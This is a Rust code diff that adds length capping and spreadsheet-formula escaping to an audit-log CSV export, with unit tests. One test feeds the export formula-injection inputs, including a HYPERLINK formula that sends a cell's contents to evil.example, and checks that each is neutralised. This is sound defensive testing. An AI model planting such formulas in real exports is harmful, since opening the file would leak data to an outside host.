@@ -4,7 +4,7 @@ use chrono::{DateTime, SecondsFormat, Utc};
 use serde::{Deserialize, Serialize};
 
 use super::audit_query::action_label;
-use super::export::CsvFormat;
+use super::export::{text_cell, CsvFormat};
 
 #[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
 pub struct AuditEntry {
@@ -73,6 +73,24 @@ pub fn field_label(field: &str) -> &str {
     }
 }
 
+/// The most characters an entry stores of its actor, subject or detail.
+pub const FIELD_MAX_CHARS: usize = 256;
+
+/// What marks a field that was cut to [`FIELD_MAX_CHARS`].
+pub const CUT_MARK: &str = "… (cut)";
+
+/// A field as stored: at most [`FIELD_MAX_CHARS`] characters, a longer
+/// one cut and marked as such.
+pub fn capped(text: &str) -> String {
+    if text.chars().count() <= FIELD_MAX_CHARS {
+        return text.to_owned();
+    }
+    let keep = FIELD_MAX_CHARS - CUT_MARK.chars().count();
+    let mut out: String = text.chars().take(keep).collect();
+    out.push_str(CUT_MARK);
+    out
+}
+
 pub const CSV_COLUMNS: [&str; 10] =
     ["id", "at_utc", "who", "action", "action_label", "customer_id", "customer", "subject", "detail", "changes"];
 
@@ -89,17 +107,18 @@ pub fn write_csv(entries: &[AuditEntry], format: CsvFormat) -> Vec<u8> {
     let _ = writer.write_record(CSV_COLUMNS);
     for e in entries {
         let changes = e.changes.iter().map(FieldChange::describe).collect::<Vec<_>>().join("; ");
+        let text = |t: &str| text_cell(t).into_owned();
         let _ = writer.write_record([
             e.id.to_string(),
             e.at.to_rfc3339_opts(SecondsFormat::Secs, true),
-            e.actor.clone(),
-            e.action.clone(),
-            action_label(&e.action).to_owned(),
+            text(&e.actor),
+            text(&e.action),
+            text(action_label(&e.action)),
             e.customer.as_ref().map(|c| c.id.to_string()).unwrap_or_default(),
-            e.customer.as_ref().map(|c| c.name.clone()).unwrap_or_default(),
-            e.subject.clone(),
-            e.detail.clone(),
-            changes,
+            text(e.customer.as_ref().map_or("", |c| c.name.as_str())),
+            text(&e.subject),
+            text(&e.detail),
+            text(&changes),
         ]);
     }
     writer.into_inner().unwrap_or_default()
@@ -136,6 +155,35 @@ mod tests {
         );
         assert!(lines[2].starts_with("2,"));
         assert_eq!(lines.len(), 4, "header, two entries, and the final line break");
+    }
+
+    #[test]
+    fn no_text_cell_of_the_audit_csv_starts_a_formula() {
+        let formula = "=HYPERLINK(\"https://evil.example/?x=\"&B3,\"Invoice\")";
+        let mut e = entry(1, vec![FieldChange::new("name", "@SUM(1)", formula)]);
+        e.actor = "-2+3".to_owned();
+        e.subject = "+cmd".to_owned();
+        e.detail = "\t=1+1".to_owned();
+        e.customer = Some(AuditCustomer { id: 7, name: formula.to_owned() });
+        let bytes = write_csv(&[e], CsvFormat::Comma);
+        let mut reader = csv::ReaderBuilder::new().from_reader(bytes.as_slice());
+        let row = reader.records().next().unwrap().unwrap();
+        assert_eq!(&row[0], "1", "the id stays a number");
+        assert_eq!(&row[2], "'-2+3");
+        assert_eq!(&row[6], format!("'{formula}"));
+        assert_eq!(&row[7], "'+cmd");
+        assert_eq!(&row[8], "'\t=1+1");
+        assert!(row[9].starts_with("Name: "), "changes start with their field's name");
+    }
+
+    #[test]
+    fn long_fields_are_cut_and_marked() {
+        assert_eq!(capped("short"), "short");
+        let exact = "x".repeat(FIELD_MAX_CHARS);
+        assert_eq!(capped(&exact), exact);
+        let long = capped(&"ö".repeat(2_000));
+        assert_eq!(long.chars().count(), FIELD_MAX_CHARS);
+        assert!(long.ends_with(CUT_MARK));
     }
 
     #[test]
